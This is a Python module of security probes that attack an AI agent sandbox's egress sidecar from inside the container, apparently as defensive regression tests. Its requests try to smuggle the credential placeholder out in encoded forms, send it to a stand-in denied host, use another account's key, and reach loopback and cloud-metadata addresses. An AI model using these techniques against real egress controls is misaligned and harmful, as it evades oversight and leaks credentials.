"""Broker probes: the egress sidecar attacked the ways a turned agent would, through its
own proxy, from inside the bottle.

Each probe sends what an attacker sent (an absolute request target inside a tunnel to the
API host, a ClientHello with another record version, the credential over plain HTTP to
port 443, another account's key to the API host, a Host naming another port, a body over
the API's limit, the loopback and metadata addresses) and passes only when the sidecar
refuses it. Every request carries the run's probe mark (``policy.PROBE_HEADER``): the
sidecar logs it as probe traffic and, should a request pass every check, answers it
itself, so nothing a probe sends leaves the sidecar while the broker works as designed.
A broker that fails a probe may have forwarded that one request (to the bottle's own
allowlisted host): that is the failure the probe reports.
"""

from __future__ import annotations

import contextlib
import json
import secrets
import shlex
import socket
from pathlib import Path

from backends import paths
from backends.egress import policy as pol
from backends.probes import net_facts as nf
from backends.probes.base import (
    CREDENTIAL,
    FAIL,
    HOST,
    NETWORK,
    NOT_APPLICABLE,
    PASS,
    Probe,
    Target,
    clip,
    egress_of,
    egress_value,
    sealed,
    verdict,
)

DENIED = "bottle-probe-denied.invalid"
#: Another account's key, as an agent with its own account would send it.
OTHER_KEY = "sk-ant-api03-bottleprobe" + "A" * 72 + "-probeAA"
SEAL_FIX = "rm and up the agent with this bottle-dash (the sidecar is made again)"
#: Marks in a request template, filled in by the bottle's shell from its own env: the
#: probe never handles the placeholder's value itself.
PH, PCT, B64 = "@PH@", "@PCT@", "@B64@"


def mark(t: Target) -> str:
    """This run's probe mark (one per suite run, kept in the target's facts)."""
    value = str(t.facts.get("_mark") or "")
    if not value:
        value = t.facts["_mark"] = "probe-" + secrets.token_hex(4)
    return value


def marked(t: Target, request: str) -> str:
    """``request`` (CRLF lines) with the probe mark as its second line."""
    first, sep, rest = request.partition("\r\n")
    return f"{first}\r\n{pol.PROBE_HEADER}: {mark(t)}\r\n{rest}" if sep else request


def _var(t: Target) -> str:
    return egress_value(t, "credential", "var")


def send(t: Target, *chunks: str | bytes) -> bytes | None:
    """Send ``chunks`` (a second apart) to the sidecar's proxy from inside the bottle; the
    raw reply, or None when the bottle has no client (nc or node). ``@PH@``, ``@PCT@`` and
    ``@B64@`` in a chunk become the bottle's placeholder as it is, percent-encoded and in
    base64 (from its env, in the bottle's shell)."""
    from backends.probes.network import proxy_of

    host, port = proxy_of(t)
    var = _var(t)
    prep = ""
    if var:
        prep = (
            f'ph="${{{var}}}"; '
            "pct=$(printf %s \"$ph\" | od -An -v -tx1 | tr -d ' \\n' | sed 's/../%&/g'); "
            "b64=$(printf %s \"$ph\" | base64 | tr -d '\\n'); "
        )
    words = []
    for i, chunk in enumerate(chunks):
        wire = shlex.quote(nf.wire(chunk))
        if var:
            prep += (
                f'w{i}=$(printf %s {wire} | sed -e "s/{PH}/$ph/g" -e "s/{PCT}/$pct/g" '
                f'-e "s|{B64}|$b64|g"); '
            )
            words.append(f'"$w{i}"')
        else:
            words.append(wire)
    script = (
        "command -v nc >/dev/null 2>&1 || command -v node >/dev/null 2>&1 "
        "|| { echo no-client; exit 0; }; "
        + prep
        + nf.EXCHANGE_FN
        + f"exchange {shlex.quote(host)} {port} {' '.join(words)} | od -An -v -tx1"
    )
    out = t.run(script, timeout=60).stdout
    if out.strip() == "no-client":
        return None
    return bytes.fromhex("".join(out.split()))


def _status_of(reply: bytes | None) -> str:
    if not reply:
        return "no reply"
    return reply.split(b"\r\n", 1)[0].decode("latin-1").strip() or "no reply"


def _is(reply: bytes | None, code: str) -> bool:
    return _status_of(reply).split()[1:2] == [code]


def _api(t: Target) -> tuple[str, int]:
    host, port = nf.rule_host(egress_value(t, "api"))
    return host, port or 443


def _connect(t: Target, where: str) -> str:
    return marked(t, f"CONNECT {where} HTTP/1.1\r\nHost: {where}\r\n\r\n")


def _in_tunnel(t: Target, where: str, inner: str | bytes) -> tuple[str, bytes | None]:
    """CONNECT to ``where``, then ``inner`` in the tunnel: (the CONNECT's status line,
    what came back in the tunnel)."""
    raw = send(t, _connect(t, where), inner)
    if raw is None:
        return "no client", None
    status, rest = nf.split_reply(raw)
    return status or "no reply", rest


def _cred_header(t: Target) -> str:
    return f"x-api-key: {PH}\r\n" if _var(t) else ""


# ----------------------------------------------------------------------------- probes


def request_target(t: Target) -> tuple[str, str]:
    """An absolute request target naming another host, inside a tunnel to the API host,
    with the placeholder (finding 1: a server routing by the request line served the
    attacker's host, which echoed the swapped key)."""
    host, port = _api(t)
    tunnel = f"{host}:{port}"
    inner = marked(
        t, f"GET https://{DENIED}/collect HTTP/1.1\r\nHost: {host}\r\n{_cred_header(t)}\r\n"
    )
    status, rest = _in_tunnel(t, tunnel, inner)
    if rest is None and status == "no client":
        return FAIL, "no TCP client (nc or node) in the bottle to send the request"
    answer = _status_of(rest)
    seen = [f"CONNECT {tunnel} -> {status}; GET https://{DENIED}/collect inside -> {answer}"]
    ok = _is(rest, "403")
    h2 = _h2_absolute_path(t, host, port)
    if h2:
        seen.append(h2[1])
        ok = ok and h2[0]
    else:
        seen.append("HTTP/2 :path not tried (no curl with HTTP/2 in the bottle)")
    return verdict(ok, "; ".join(seen))


def _h2_absolute_path(t: Target, host: str, port: int) -> tuple[bool, str] | None:
    """The same over TLS and HTTP/2 (an absolute ``:path``), where the bottle has curl."""
    script = (
        "command -v curl >/dev/null 2>&1 && curl -V | grep -qi http2 || { echo none; exit 0; }; "
        f"curl -sS -o /dev/null -w '%{{http_code}} %{{http_version}}' --http2 "
        f"--max-time 20 -H {shlex.quote(f'{pol.PROBE_HEADER}: {mark(t)}')} "
        f"--request-target https://{DENIED}/collect https://{host}:{port}/ 2>&1"
    )
    out = t.run(script, timeout=60).stdout.strip()
    if out == "none" or not out:
        return None
    code = out.split()[0]
    return code == "403", f"HTTP/2 :path https://{DENIED}/collect -> {clip(out, 80)}"


def tunnel_bytes(t: Target) -> tuple[str, str]:
    """A ClientHello with record version 0x0304 in a tunnel to an allowed host, naming a
    denied host (finding 2: mitmproxy relayed it as raw TCP, and the agent did its own TLS
    to any name). The sidecar must answer it as the HTTP it is not, never relay it."""
    host, port = _api(t)
    tunnel = f"{host}:{port}"
    hello = nf.client_hello(DENIED)
    odd = hello[:2] + b"\x04" + hello[3:]
    status, reply = _in_tunnel(t, tunnel, odd)
    if reply is None and status == "no client":
        return FAIL, "no TCP client (nc or node) in the bottle to send the ClientHello"
    rest = reply or b""
    relayed = rest[:1] in (b"\x16", b"\x15")
    answer = nf.tls_answer(rest) if relayed else _status_of(rest)
    evidence = f"CONNECT {tunnel} -> {status}; ClientHello (record 0x0304, SNI {DENIED}) -> "
    evidence += f"{answer}" + (" from upstream: relayed unread" if relayed else "")
    return verdict(not relayed and status.split()[1:2] == ["200"] and bool(rest), evidence)


def cleartext_credential(t: Target) -> tuple[str, str]:
    """``GET http://<api host>:443/`` with the placeholder (finding 3: swapped in and sent
    in the clear)."""
    host, port = _api(t)
    request = marked(
        t,
        f"GET http://{host}:{port}/v1/models HTTP/1.1\r\nHost: {host}:{port}\r\n"
        f"{_cred_header(t)}\r\n",
    )
    reply = send(t, request)
    what = "the placeholder" if _var(t) else "a request"
    return verdict(_is(reply, "403"), f"{what} over plain HTTP to {host}:{port} -> "
                   f"{_status_of(reply)}")  # fmt: skip


def other_key_refused(t: Target) -> tuple[str, str]:
    """Another account's key to the API host (finding 7: forwarded untouched, a way out to
    an account the agent controls): refused."""
    host, port = _api(t)
    target = host if port == 443 else f"{host}:{port}"
    seen, ok = [], True
    for header in (f"x-api-key: {OTHER_KEY}", f"Authorization: Bearer {OTHER_KEY}"):
        request = marked(
            t, f"GET https://{target}/v1/models HTTP/1.1\r\nHost: {target}\r\n{header}\r\n\r\n"
        )
        reply = send(t, request)
        ok = ok and _is(reply, "403")
        seen.append(f"{header.split(':')[0]} with another key -> {_status_of(reply)}")
    return verdict(ok, "; ".join(seen))


def host_port(t: Target) -> tuple[str, str]:
    """``Host: <api>:8443`` inside a tunnel to ``<api>:443`` (finding 11) must be refused;
    ``X-Forwarded-Host`` must be stripped (the sidecar's probe answer names what it
    removed)."""
    host, port = _api(t)
    tunnel = f"{host}:{port}"
    inner = marked(t, f"GET / HTTP/1.1\r\nHost: {host}:8443\r\n\r\n")
    status, rest = _in_tunnel(t, tunnel, inner)
    ported = _is(rest, "403")
    target = host if port == 443 else tunnel
    forwarded = marked(
        t,
        f"GET https://{target}/v1/models HTTP/1.1\r\nHost: {target}\r\n"
        f"X-Forwarded-Host: {DENIED}\r\nForwarded: host={DENIED}\r\n\r\n",
    )
    reply = send(t, forwarded) or b""
    head = reply.split(b"\r\n\r\n", 1)[0].decode("latin-1").lower()
    stripped = "x-bottle-probe-stripped: forwarded, x-forwarded-host" in head
    return verdict(
        ported and stripped,
        f"Host {host}:8443 in a tunnel to {tunnel} -> {_status_of(rest)}; X-Forwarded-Host "
        f"and Forwarded -> {_status_of(reply)}, "
        f"{'stripped' if stripped else 'not shown stripped'}",
    )


#: How long the probe keeps the connection open for a body that never comes: a sidecar
#: that refuses closes it at once, one that waits for the body keeps it to the end.
HOLD = 8


def closed_early(t: Target, request: str) -> tuple[bool, str]:
    """Send ``request`` (headers announcing a body that never comes) and hold the
    connection for ``HOLD`` seconds: whether the sidecar closed it long before."""
    from backends.probes.network import proxy_of

    host, port = proxy_of(t)
    wire = shlex.quote(nf.wire(marked(t, request)))
    script = (
        "if command -v nc >/dev/null 2>&1; then "
        f"{{ printf '%b' {wire}; sleep {HOLD}; }} | {{ s=$(date +%s); "
        f"nc -w {HOLD + 4} {shlex.quote(host)} {port} >/dev/null 2>&1; "
        'echo "closed-after $(( $(date +%s) - s ))"; }; '
        "elif command -v node >/dev/null 2>&1; then "
        'node -e \'const a=process.argv.slice(1), s=require("net").connect(+a[1], a[0]);'
        ' const t0=Date.now(); s.on("connect",()=>s.write(Buffer.from(a[2]'
        '.replace(/\\\\0([0-7]{3})/g,(m,o)=>String.fromCharCode(parseInt(o,8))),"latin1")));'
        ' s.on("data",()=>{}); s.on("error",()=>{});'
        ' s.on("close",()=>{console.log("closed-after "+Math.round((Date.now()-t0)/1000));'
        f' process.exit(0)}}); setTimeout(()=>{{console.log("closed-after {HOLD + 4}");'
        f" process.exit(0)}}, {(HOLD + 4) * 1000})' {shlex.quote(host)} {port} {wire}; "
        "else echo no-client; fi"
    )
    out = t.run(script, timeout=60).stdout.strip()
    words = out.split()
    if len(words) == 2 and words[0] == "closed-after" and words[1].isdigit():
        seconds = int(words[1])
        return seconds <= HOLD // 2, f"closed by the sidecar after {seconds} s (held {HOLD} s)"
    return False, out or "no answer"


def body_limit(t: Target) -> tuple[str, str]:
    """A body over the API's limit announced to the API host (finding 9: a 171 MB body
    OOM-killed the sidecar): refused before a byte of it is read: the connection is closed
    at once (a sidecar that waited for the body would keep it open)."""
    host, port = _api(t)
    target = host if port == 443 else f"{host}:{port}"
    size = pol.API_BODY_MAX * 2
    request = (
        f"POST https://{target}/v1/messages HTTP/1.1\r\nHost: {target}\r\n"
        f"Content-Length: {size}\r\n\r\n"
    )
    early, evidence = closed_early(t, request)
    return verdict(early, f"POST of {size} bytes announced to {target}: {evidence}")


def inside_addresses(t: Target) -> tuple[str, str]:
    """The sidecar's own loopback, the metadata address and the sidecar's own bottle-side
    address through the proxy (finding 8), and every rule of the live policy read again
    with the rules of this bottle-dash (an older policy may name one)."""
    from backends.probes.network import _sidecar_ip, proxy_of

    seen, ok = [], True
    sidecar = _sidecar_ip(t) or proxy_of(t)[0]
    for where in ("127.0.0.1:8080", "localhost:8080", "169.254.169.254:80", f"{sidecar}:8080"):
        reply = send(t, _connect(t, where))
        refused = _is(reply, "403")
        ok = ok and refused
        seen.append(f"CONNECT {where} -> {_status_of(reply)}")
    bad = []
    try:
        text = (paths.agent_state_dir(t.agent) / "egress" / pol.POLICY_FILE).read_text()
        rules = [str(r) for r in json.loads(text).get("allow") or []]
    except (OSError, ValueError):
        rules = [str(r) for r in egress_of(t).get("allow") or []]
    for rule in rules:
        try:
            pol.parse_rule(rule)
        except ValueError as exc:
            bad.append(str(exc))
    if bad:
        ok = False
        seen.append("the policy names: " + "; ".join(bad))
    else:
        seen.append(f"none of the {len(rules)} rules names an inside address")
    return verdict(ok, "; ".join(seen))


def proxy_bottle_side_only(t: Target) -> tuple[str, str]:
    """The proxy answers on the bottle's network only (finding 6: it listened on every
    address, and a host user with the placeholder used the sidecar's outer address). Tried
    from the host, where the operator's other users are."""
    sidecar = t.facts.get("sidecar") or {}
    nets = (sidecar.get("NetworkSettings") or {}).get("Networks") or {}
    inside = str((egress_of(t).get("networks") or {}).get("internal") or "")
    others = {n: str(v.get("IPAddress") or "") for n, v in nets.items() if n != inside}
    others = {n: ip for n, ip in others.items() if ip}
    if not others:
        return NOT_APPLICABLE, "no address of the sidecar outside the bottle's network is known"
    seen, ok = [], True
    for name, ip in sorted(others.items()):
        try:
            with socket.create_connection((ip, pol.PROXY_PORT), timeout=3):
                opened = True
        except OSError:
            opened = False
        ok = ok and not opened
        seen.append(f"{ip}:{pol.PROXY_PORT} on {name} {'answers' if opened else 'refused'}")
    return verdict(ok, "from the host: " + "; ".join(seen))


def status_channel(t: Target) -> tuple[str, str]:
    """Nothing the bottle writes lands in the operator's state dir (finding 9: 200 MB and
    5,000 files in the status folder): a sealed bottle has no writable mount of a host
    path but its workspace, and its status word goes through the sidecar."""
    if t.plan is None:
        return FAIL, "no recorded plan"
    bad = []
    if t.plan.status_dir:
        bad.append(f"the plan mounts the status dir {t.plan.status_dir}")
    workspace = str(t.plan.workspace or "")
    for mount in (t.facts.get("container") or {}).get("Mounts") or []:
        if mount.get("Type") != "bind" or not mount.get("RW"):
            continue
        source = str(mount.get("Source") or "")
        if workspace and (source == workspace or source.startswith(workspace + "/")):
            continue
        bad.append(f"{source} is mounted writable at {mount.get('Destination')}")
    script = (
        "for i in 1 2; do if ( : > /opt/bottle-dash/status/probe-$i ) 2>/dev/null; then "
        "echo wrote; rm -f /opt/bottle-dash/status/probe-$i; fi; done"
    )
    if t.backend == "docker" and "wrote" in t.run(script).stdout:
        bad.append("the bottle writes files into /opt/bottle-dash/status")
    if bad:
        return FAIL, "; ".join(bad)
    return PASS, (
        "no writable host mount but the workspace; the status word goes through the sidecar"
    )


def log_bounded(t: Target) -> tuple[str, str]:
    """The egress log cannot grow without bound (finding 9: 1.4 GB/hour of denials): the
    sidecar rotates it at its limit, keeping one older file."""
    sidecar = t.facts.get("sidecar") or {}
    labels = (sidecar.get("Config") or {}).get("Labels") or {}
    revision = labels.get("bottle-dash.sidecar-revision", "")
    from backends.docker.sidecar import REVISION

    folder = paths.agent_state_dir(t.agent) / "egress"
    sizes = {}
    for name in (pol.LOG_FILE, pol.LOG_FILE + ".1"):
        with contextlib.suppress(OSError):
            sizes[name] = (folder / name).stat().st_size
    limit = pol.LOG_MAX_BYTES
    over = [f"{n} is {s} bytes" for n, s in sizes.items() if s > limit]
    if revision != REVISION:
        over.append(
            f"the sidecar is of revision {revision or 'none'} (not {REVISION}: no rotation)"
        )
    shown = ", ".join(f"{n} {s} B" for n, s in sizes.items()) or "no log yet"
    return verdict(not over, "; ".join(over) or f"{shown}, each at most {limit} B (rotated)")


# ----------------------------------------------------------------------------- credential


def placeholder_encodings(t: Target) -> tuple[str, str]:
    """The placeholder sent to an allowlisted host that is not the API, as it is, as a
    header's name, percent-encoded in the URL, in base64 in the body and gzip-compressed
    (finding 10): each refused. Not checked, and said so: split across requests (the
    placeholder is worthless outside the sidecar; this is a tripwire)."""
    from backends.probes.network import _allowed_host

    if not _var(t):
        return NOT_APPLICABLE, "no credential configured: there is no placeholder"
    host, port = _allowed_host(t, api=False)
    if not host:
        return NOT_APPLICABLE, "the allowlist has no host besides the API to send it to"
    scheme = "https" if (port or 443) == 443 else "http"
    target = host if scheme == "https" else f"{host}:{port}"
    base = f"{scheme}://{target}"
    cases = {
        "as a header value": f"GET {base}/ HTTP/1.1\r\nHost: {host}\r\nx-api-key: {PH}\r\n\r\n",
        "as a header name": f"GET {base}/ HTTP/1.1\r\nHost: {host}\r\nx-{PH}: 1\r\n\r\n",
        "percent-encoded": f"GET {base}/?k={PCT} HTTP/1.1\r\nHost: {host}\r\n\r\n",
        "base64 in the body": (
            f"POST {base}/ HTTP/1.1\r\nHost: {host}\r\nContent-Length: @LEN64@\r\n\r\n{B64}"
        ),
    }
    # The placeholder's length is no secret (its value never leaves the bottle's shell).
    length = len((t.plan.env.get(_var(t), "") if t.plan else "") or "")
    seen, ok = [], True
    for what, request in cases.items():
        request = request.replace("@LEN64@", str(4 * ((length + 2) // 3)))
        reply = send(t, marked(t, request))
        refused = _is(reply, "403")
        ok = ok and refused
        seen.append(f"{what} -> {_status_of(reply)}")
    gz = _gzip_case(t, base, host)
    ok = ok and gz[0]
    seen.append(gz[1])
    seen.append("not checked: split across requests")
    return verdict(ok, f"to {base}: " + "; ".join(seen))


def _gzip_case(t: Target, base: str, host: str) -> tuple[bool, str]:
    """The placeholder gzip-compressed in a body (``Content-Encoding: gzip``): the bottle
    compresses its own placeholder, the sidecar must find it after decoding."""
    from backends.probes.network import proxy_of

    phost, pport = proxy_of(t)
    var = _var(t)
    head = nf.wire(
        marked(t, f"POST {base}/ HTTP/1.1\r\nHost: {host}\r\nContent-Encoding: gzip\r\n")
    )
    script = (
        "command -v gzip >/dev/null 2>&1 && command -v nc >/dev/null 2>&1 "
        "|| { echo no-tools; exit 0; }; "
        f'f=$(mktemp); printf %s "${{{var}}}" | gzip -c > "$f"; n=$(wc -c < "$f"); '
        f"{{ printf '%b' {shlex.quote(head)}; printf 'Content-Length: %s\\r\\n\\r\\n' \"$n\"; "
        f'cat "$f"; sleep 3; }} | nc -w 5 {shlex.quote(phost)} {pport} | head -1; rm -f "$f"'
    )
    out = t.run(script, timeout=60).stdout.strip()
    if out == "no-tools":
        return True, "gzip-compressed: not tried (no gzip and nc in the bottle)"
    return out.split()[1:2] == ["403"], f"gzip-compressed -> {clip(out, 60) or 'no reply'}"


def token_sources(t: Target) -> tuple[list[str], str]:
    """The real token(s) as the host holds them: the sidecar's credential file and the
    configured source; and why none could be read ("" when some were)."""
    from backends.probes.credential import real_credentials

    found = list(real_credentials(t))
    file = paths.agent_state_dir(t.agent) / "egress" / pol.CREDENTIAL_FILE
    with contextlib.suppress(OSError):
        value = Path(file).read_text(encoding="utf-8").strip()
        if len(value) >= 8 and value not in found:
            found.append(value)
    source = egress_value(t, "credential", "source")
    if found or source in ("", "none") or not sealed(t):
        return found, ""
    return found, (
        f"the credential ({source}) cannot be read here and the sidecar's copy is not on "
        "this host, so the bottle cannot be searched for it"
    )


PROBES = (
    Probe(
        "request-target",
        NETWORK,
        "an absolute request target naming another host is refused in a tunnel",
        SEAL_FIX,
        request_target,
    ),
    Probe(
        "tunnel-bytes",
        NETWORK,
        "a tunnel's bytes are TLS the sidecar reads, or HTTP: never relayed unread",
        SEAL_FIX,
        tunnel_bytes,
    ),
    Probe(
        "host-port",
        NETWORK,
        "a Host naming another port is refused; X-Forwarded-* are stripped",
        SEAL_FIX,
        host_port,
    ),
    Probe(
        "inside-addresses",
        NETWORK,
        "loopback, metadata and the sidecar's own addresses are never dialled",
        SEAL_FIX,
        inside_addresses,
    ),
    Probe(
        "proxy-bottle-side",
        NETWORK,
        "the proxy answers on the bottle's network only",
        SEAL_FIX,
        proxy_bottle_side_only,
    ),
    Probe(
        "body-limit",
        NETWORK,
        "a body over the API's limit is refused before it is read",
        SEAL_FIX,
        body_limit,
    ),
    Probe(
        "log-bounded",
        NETWORK,
        "the egress log is rotated at its limit",
        SEAL_FIX,
        log_bounded,
    ),
    Probe(
        "status-channel",
        HOST,
        "nothing the bottle writes lands in the operator's state dir",
        SEAL_FIX,
        status_channel,
    ),
    Probe(
        "cleartext-credential",
        CREDENTIAL,
        "the credential never goes over plain HTTP, not even to the API host's port 443",
        SEAL_FIX,
        cleartext_credential,
    ),
    Probe(
        "api-other-key",
        CREDENTIAL,
        "the API host takes the placeholder only: another account's key is refused",
        SEAL_FIX,
        other_key_refused,
    ),
    Probe(
        "placeholder-refused",
        CREDENTIAL,
        "the placeholder off the API host is refused however it is encoded",
        SEAL_FIX,
        placeholder_encodings,
    ),
)
